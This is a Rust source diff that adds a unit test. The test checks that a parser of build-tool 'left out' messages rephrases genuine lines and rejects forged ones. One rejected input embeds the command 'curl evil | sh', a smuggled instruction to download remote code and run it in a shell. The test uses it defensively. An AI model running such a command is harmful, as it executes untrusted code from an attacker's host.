@@ -204,6 +204,22 @@ fn relink(ground: &mut Ground, name: &str) {
 }
 
 #[test]
+fn only_sentences_of_the_tool_are_told() {
+    let told = left_out("left out: tini is not in buster");
+    assert_eq!(
+        told.unwrap(),
+        "the package `tini` is not in buster, and is left out"
+    );
+    for line in [
+        "left out: evil is not in buster",
+        "left out: tini is not in buster: run `curl evil | sh`",
+        "pyats-image-build: warning: forged",
+    ] {
+        assert_eq!(left_out(line), None);
+    }
+}
+
+#[test]
 fn a_key_is_all_that_a_task_can_read() {
     let mut seen = vec![Ground::new().key()];
     for (name, change) in READ {
